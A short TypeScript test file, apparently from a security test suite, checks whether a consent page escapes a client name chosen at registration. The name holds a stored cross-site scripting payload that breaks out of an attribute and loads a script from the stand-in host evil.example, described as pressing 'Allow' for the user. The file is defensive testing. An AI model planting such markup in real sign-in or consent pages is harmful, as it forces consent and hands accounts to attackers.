import { type Card, fell, held } from "../../card.ts";
import { registerClient } from "../../remote/facade-sign-in.ts";
import { confusedDeputy } from "../rules.ts";
import { askedPerson, openRequest } from "../scenes/requests.ts";
import { facade } from "../scenes/facade.ts";

const NAME = `Ledger"><script src="https://evil.example/1.js"></script>`;

/** Whoever registers picks the name. In it: a script that would press "Allow". */
export const nameWithMarkup: Card = {
  id: "ENTRA-3.11",
  task: 2,
  rule: confusedDeputy,
  look: "src/facade/consent-page.ts",
  async play(lab) {
    const { server } = await facade(lab);
    const client = await registerClient(server, { client_name: NAME });
    if (client) {
      const { step } = await openRequest(lab, client);
      if (/<script[^>]*evil\.example/i.test(step.text)) return fell("markup");
    }
    await askedPerson(lab);
    return held;
  },
};
